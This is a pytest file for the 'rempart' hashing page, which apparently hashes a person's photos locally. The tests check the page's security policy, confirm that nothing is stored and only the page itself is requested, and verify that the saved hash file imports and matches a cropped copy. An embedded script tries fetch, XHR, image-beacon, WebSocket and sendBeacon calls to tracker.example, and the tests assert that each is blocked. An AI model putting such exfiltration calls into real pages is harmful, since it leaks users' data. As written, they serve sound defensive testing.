"""Her hashing page sends nothing and keeps nothing, proven in Debian's chromium on the real
page (`rempart hash-page`, and /hash/ as `rempart serve` serves it): every request is
recorded, injected network calls are blocked by the CSP, no storage is used, and the file she
downloads imports with the real `rempart bank import` and finds a cropped copy in a real scan.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import Result
from tests.api.conftest import Server, World
from tests.conftest import migrated_sqlite_url
from tests.media.video_factory import scene_frames, write_video
from tests.web.hashpage.conftest import HashPageRun
from typer.testing import CliRunner

from rempart.cli import app
from rempart.samples import photo_like

EXPECTED_CSP = {
    "default-src": "'none'",
    "connect-src": "'none'",
    "form-action": "'none'",
    "base-uri": "'none'",
    "worker-src": "blob:",
    "img-src": "blob: data:",
    "media-src": "blob:",
}


def policy(text: str) -> dict[str, str]:
    out = {}
    for part in text.split(";"):
        name, _, value = part.strip().partition(" ")
        if name:
            out[name] = value.strip()
    return out


def photos(folder: Path, seeds: tuple[int, ...] = (11, 12)) -> list[Path]:
    out = []
    for seed in seeds:
        path = folder / f"photo-{seed}.jpg"
        photo_like(seed, (640, 480)).save(path, "JPEG", quality=90)
        out.append(path)
    return out


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, hash_page_path: Path) -> Iterator[Server]:
    """A real `rempart serve` over an empty database (the page needs nothing from it)."""
    root = tmp_path_factory.mktemp("hashpage-serve")
    srv = Server(World(root, migrated_sqlite_url(root / "r.db"), root / "home"))
    yield srv
    srv.stop()


def test_one_file_with_its_policy(hash_page_path: Path) -> None:
    html = hash_page_path.read_text(encoding="utf-8")
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    assert meta, "no CSP meta"
    csp = policy(meta.group(1))
    for name, value in EXPECTED_CSP.items():
        assert csp[name] == value, name
    assert re.fullmatch(r"'sha256-[A-Za-z0-9+/=]+'", csp["script-src"])
    assert re.fullmatch(r"'sha256-[A-Za-z0-9+/=]+'", csp["style-src"])
    assert '<meta name="referrer" content="no-referrer">' in html
    # Nothing outside the file: no src/href/action attribute but in-page anchors (scripts
    # aside), no CSS import or url().
    markup = re.sub(r"(<script[^>]*>).*?</script>", r"\1</script>", html, flags=re.S)
    refs = re.findall(r"\s(?:src|href|action|srcset|poster|data)\s*=\s*\"([^\"]*)\"", markup, re.I)
    assert all(r.startswith("#") for r in refs), refs
    css = re.search(r"<style>(.*?)</style>", html, re.S)
    assert css and "@import" not in css.group(1) and "url(" not in css.group(1)
    assert html.count('type="file"') == 1
    # Every catalogue is inline, as the chooser lists them.
    names = {
        p.stem for p in (Path(__file__).parents[3] / "src/rempart/web/hashpage/i18n").glob("*.json")
    }
    assert {"en", "fr", "ko"} <= names


def test_the_page_needs_its_build(tmp_path: Path) -> None:
    """Without dist/ the command says to run make hashpage (not a traceback)."""
    from importlib import resources

    from rempart.web.hashpage import HashPageError, build_page

    fake = tmp_path / "hashpage"
    src = Path(str(resources.files("rempart") / "web" / "hashpage"))
    fake.mkdir()
    for name in ("page.html", "page.css"):
        (fake / name).write_text((src / name).read_text(encoding="utf-8"), encoding="utf-8")
    (fake / "i18n").mkdir()
    (fake / "i18n" / "en.json").write_text((src / "i18n/en.json").read_text("utf-8"), "utf-8")
    with pytest.raises(HashPageError, match="make hashpage"):
        build_page(fake)


# What a saved item may hold: hashes, sizes and times, never pixels or names.
ITEM_FIELDS = {
    "media_type",
    "pdq",
    "pdq_quality",
    "md5",
    "sha256",
    "width",
    "height",
    "pdq_variants",
    "local_features",
    "duration",
    "seconds_per_frame",
    "vpdq",
    "vpdq_inside",
    "vpdq_regions",
    "vpdq_crops",
}


def test_nothing_sent_from_file_and_offline(hash_page: HashPageRun, tmp_path: Path) -> None:
    """From file://, put offline after loading: photos, a video and a non-media file are
    chosen and hashed, the file is saved; the only request ever made is the page itself, and
    the saved items hold hashes only (the video's crops are hashes too)."""
    page = hash_page.page
    hash_page.context.set_offline(True)
    (tmp_path / "notes.txt").write_text("not a picture")
    clip = write_video(tmp_path / "clip.mp4", scene_frames(3, 1.0, 10, (160, 120)), fps=10)
    files = photos(tmp_path) + [clip, tmp_path / "notes.txt"]
    hash_page.choose(files)
    hash_page.wait_all_finished()
    entries = {e["name"]: e for e in hash_page.entries()}
    assert entries["notes.txt"]["code"] == "not-media"
    assert [entries[p.name]["status"] for p in files[:3]] == ["done"] * 3, entries
    hash_page.agree()
    sub = hash_page.download()
    assert sub["generator"] == "rempart-page 0.1.0" and len(sub["items"]) == 3
    for item in sub["items"]:
        assert set(item) <= ITEM_FIELDS, set(item) - ITEM_FIELDS
    (video,) = [i for i in sub["items"] if i["media_type"] == "video"]
    assert set(video["vpdq_crops"]) == {"crop90", "crop80"}
    assert hash_page.requests.network() == [hash_page.url]
    assert hash_page.requests.routed == [hash_page.url]
    assert not hash_page.errors
    # The failed file is listed with its reason.
    assert "notes.txt" in page.inner_text("#failed-list")


INJECT = """async () => {
  const seen = [];
  document.addEventListener('securitypolicyviolation',
    e => seen.push(e.violatedDirective + ' ' + e.blockedURI));
  const outcome = {};
  try { await fetch('https://tracker.example/collect?h=1'); outcome.fetch = 'sent'; }
  catch (e) { outcome.fetch = 'blocked'; }
  outcome.xhr = await new Promise(done => {
    try {
      const x = new XMLHttpRequest();
      x.open('POST', 'https://tracker.example/xhr');
      x.onload = () => done('sent'); x.onerror = () => done('blocked');
      x.send('hashes');
    } catch (e) { done('blocked'); }
  });
  outcome.image = await new Promise(done => {
    const img = new Image();
    img.onload = () => done('sent'); img.onerror = () => done('blocked');
    img.src = 'https://tracker.example/beacon.gif?h=1';
  });
  outcome.socket = await new Promise(done => {
    try {
      const ws = new WebSocket('wss://tracker.example/socket');
      ws.onopen = () => done('sent'); ws.onerror = () => done('blocked');
    } catch (e) { done('blocked'); }
  });
  outcome.beacon = navigator.sendBeacon('https://tracker.example/b', 'x') ? 'queued' : 'blocked';
  await new Promise(r => setTimeout(r, 300));
  return {outcome, seen};
}"""


def check_injected_calls_blocked(run: HashPageRun) -> None:
    result: dict[str, Any] = run.page.evaluate(INJECT)
    outcome, seen = result["outcome"], result["seen"]
    assert {k: v for k, v in outcome.items() if k != "beacon"} == {
        "fetch": "blocked",
        "xhr": "blocked",
        "image": "blocked",
        "socket": "blocked",
    }
    # sendBeacon only queues: its refusal is the violation below.
    # (served, the header and the <meta> policies each report a violation)
    assert sorted(set(seen)) == sorted(
        [
            "connect-src https://tracker.example/collect?h=1",
            "connect-src https://tracker.example/xhr",
            "img-src https://tracker.example/beacon.gif?h=1",
            "connect-src wss://tracker.example/socket",
            "connect-src https://tracker.example/b",
        ]
    ), seen
    # Chromium announces some of them, then fails them for the CSP: none reached the network.
    tried = [u for u in run.requests.seen if "tracker.example" in u]
    assert all(run.requests.failed.get(u) == "csp" for u in tried), run.requests.failed
    assert not [u for u in run.requests.routed if "tracker.example" in u]


def test_injected_network_calls_are_blocked_from_file(hash_page: HashPageRun) -> None:
    check_injected_calls_blocked(hash_page)


def test_served_page_headers_and_blocking(browser: Any, served: Server, tmp_path: Path) -> None:
    r = httpx.get(served.url + "/hash/")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    csp = policy(r.headers["content-security-policy"])
    for name, value in EXPECTED_CSP.items():
        assert csp[name] == value, name
    assert csp["frame-ancestors"] == "'none'"
    assert r.headers["referrer-policy"] == "no-referrer"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert "set-cookie" not in r.headers
    assert httpx.get(served.url + "/hash").status_code == 308
    run = HashPageRun(browser, served.url + "/hash/")
    try:
        check_injected_calls_blocked(run)
        run.requests.seen.clear()
        sub = run.hash_files(photos(tmp_path, (21,)))
        assert len(sub["items"]) == 1
        assert run.requests.network() == []  # nothing while choosing, hashing and saving
        check_nothing_stored(run)
    finally:
        run.close()


def check_nothing_stored(run: HashPageRun) -> None:
    stored = run.page.evaluate("""async () => ({
      // file:// pages cannot have a service worker at all (getRegistrations refuses).
      serviceWorkers: navigator.serviceWorker && location.protocol !== 'file:'
        ? (await navigator.serviceWorker.getRegistrations()).length : 0,
      local: window.localStorage ? localStorage.length : 0,
      session: window.sessionStorage ? sessionStorage.length : 0,
      indexedDB: indexedDB.databases ? (await indexedDB.databases()).length : 0,
      caches: window.caches ? (await caches.keys()).length : 0,
      cookie: document.cookie,
    })""")
    assert stored == {
        "serviceWorkers": 0,
        "local": 0,
        "session": 0,
        "indexedDB": 0,
        "caches": 0,
        "cookie": "",
    }


def test_nothing_stored_from_file(hash_page: HashPageRun, tmp_path: Path) -> None:
    hash_page.hash_files(photos(tmp_path, (31,)))
    check_nothing_stored(hash_page)


def test_one_multiple_file_input_and_blob_download(hash_page: HashPageRun, tmp_path: Path) -> None:
    page = hash_page.page
    assert page.locator("input[type=file]").count() == 1
    assert page.get_attribute("input[type=file]", "multiple") is not None
    # No link before there is something to save and her agreement.
    assert page.get_attribute('a[data-rempart="download"]', "href") is None
    hash_page.choose(photos(tmp_path, (41,)))
    hash_page.wait_all_finished()
    assert page.get_attribute('a[data-rempart="download"]', "href") is None  # no agreement yet
    hash_page.agree()
    href = page.get_attribute('a[data-rempart="download"]', "href")
    assert href and href.startswith("blob:")


def rempart(env: dict[str, str], *args: str) -> Result:
    """The `rempart` command in this process (CliRunner), with `env` added to os.environ:
    the same commands as in a terminal, without a Python start-up and import per command."""
    return CliRunner().invoke(app, list(args), env=env)


def test_downloaded_file_imports_and_finds_a_cropped_copy(
    hash_page: HashPageRun, tmp_path: Path
) -> None:
    """The saved file goes through the real `rempart bank import` unchanged, and a real
    `rempart scan` finds a cropped copy of her photo (and not an unrelated one)."""
    mine = tmp_path / "mine"
    mine.mkdir()
    saved = tmp_path / "my-hashes.json"
    sub = hash_page.hash_files(photos(mine, (51, 52)), save_to=saved)
    assert sub["consent"]["given_by"] == "Test Person"
    env = {
        "REMPART_DB": migrated_sqlite_url(tmp_path / "r.db"),
        "REMPART_HOME": str(tmp_path / "home"),
    }
    assert rempart(env, "bank", "create", "her").exit_code == 0
    done = rempart(env, "bank", "import", "her", str(saved), "--case", "CASE-PAGE")
    assert done.exit_code == 0, done.output
    found = tmp_path / "found"
    found.mkdir()
    original = photo_like(51, (640, 480))
    original.crop((48, 36, 592, 444)).save(found / "cropped.jpg", "JPEG", quality=85)
    photo_like(99, (640, 480)).save(found / "unrelated.jpg", "JPEG", quality=85)
    report = tmp_path / "report.json"
    scan = rempart(
        env,
        "scan",
        str(found),
        "--bank",
        "her",
        "--report",
        str(report),
        "--format",
        "json",
        "--workers",
        "1",
    )
    assert scan.exit_code in (0, 3), scan.output
    matches = json.loads(report.read_text())["matches"]
    assert {Path(m["file"]).name for m in matches} == {"cropped.jpg"}, matches
    assert all(m["case"] == "CASE-PAGE" for m in matches)
